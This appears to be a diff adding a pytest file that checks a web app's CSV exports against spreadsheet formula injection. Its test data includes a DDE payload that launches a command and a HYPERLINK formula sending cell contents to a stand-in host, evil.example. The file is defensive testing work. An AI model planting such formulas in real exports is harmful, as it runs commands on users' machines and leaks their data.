@@ -1,0 +1,83 @@
+"""No cell of any spreadsheet opens as a formula, and ordinary cells come through as they were."""
+
+import csv
+import re
+from io import StringIO
+from typing import Any
+
+import pytest
+import sqlalchemy as sa
+
+from app.accounts.models import Person
+from app.contributions.services import deciding, drafting, guarding
+from app.core.actor import SHIPPED_CONTENT
+from app.core.db import session
+from app.core.text import safe_cell
+from app.directory.kind import INITIATIVE
+from tests.permissions.site import Site
+from tests.permissions.world_people import Builder
+
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "＝", "＋", "－", "＠", '"=', "=\t", "\u00a0=", "\u200b=")
+FORMULAS = ('cmd|"/c calc"!A0', "1+1", 'HYPERLINK("http://evil.example?x="&A1)', "SUM(1,2)", "IMPORTXML(1)")
+HOSTILE = tuple(f"{start}{formula}" for start in STARTS for formula in FORMULAS)
+PLAIN = ("A play", "Ages 5–10", "£50 to £100", "Tel 0300 123 4567", "O’Brien & Sons", "a=b", "3 - 4", "x@example.org")
+RUNS = re.compile(r"^[\s\u00a0\u200b]*[=+\-@＝＋－＠\t\r\n]")
+TEXTS = ("summary", "languages", "access", "cost_note", "contact_organisation", "evidence_citation")
+
+
+def cells(site: Site, role: str, path: str) -> list[str]:
+    answer = site.send(role, "GET", path).response
+    assert answer.mimetype == "text/csv"
+    assert "attachment" in answer.headers["Content-Disposition"]
+    text = answer.get_data(as_text=True).removeprefix("\ufeff")
+    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
+
+
+@pytest.fixture(scope="module")
+def hostile(site: Site) -> Site:
+    """A site where every text begins like a formula."""
+    builder = Builder(site.database)
+    builder.world = site.world
+    left = list(HOSTILE)
+    number = 0
+    while left:
+        body: dict[str, Any] = {"type": "drama", "title": left.pop(), "description": "Words."}
+        body |= {name: left.pop() if left else "Words." for name in TEXTS}
+        number += 1
+        with builder.writing():
+            revision = drafting.start(SHIPPED_CONTENT, INITIATIVE, body, {}, f"formula-{number}")
+            found = guarding.inspect_body(INITIATIVE, body)
+            drafting.submit(SHIPPED_CONTENT, revision, {one.finding.fingerprint: "It is not." for one in found})
+            deciding.publish(SHIPPED_CONTENT, revision, confirmed=[one.id for one in revision.findings])
+    with builder.writing():
+        for person, text in zip(session().scalars(sa.select(Person).where(Person.name != "")).all(), HOSTILE, strict=False):
+            person.name = text
+    site.keep()
+    return site
+
+
+@pytest.mark.parametrize(("role", "path"), [("visitor", "/directory/csv"), ("admin", "/admin/audit.csv")])
+def test_no_cell_of_a_spreadsheet_begins_as_a_formula_does(hostile: Site, role: str, path: str) -> None:
+    found = cells(hostile, role, path)
+    assert len(found) > 100
+    assert any("calc" in cell for cell in found), "the hostile texts are in it"
+    assert [cell for cell in found if RUNS.match(cell)] == []
+
+
+def test_every_page_that_answers_with_a_spreadsheet_is_one_of_those_tested(hostile: Site) -> None:
+    answers = {}
+    for rule in hostile.app.url_map.iter_rules():
+        if not rule.arguments and "GET" in (rule.methods or set()):
+            answers[rule.rule] = hostile.send("admin", "GET", rule.rule).response.mimetype
+    assert {rule for rule, mimetype in answers.items() if "csv" in mimetype} == {"/directory/csv", "/admin/audit.csv"}
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_cell_is_made_plain_text_and_keeps_its_words(text: str) -> None:
+    assert not RUNS.match(safe_cell(text))
+    assert safe_cell(text).endswith(text)
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_an_ordinary_cell_comes_through_as_it_was(text: str) -> None:
+    assert safe_cell(text) == text
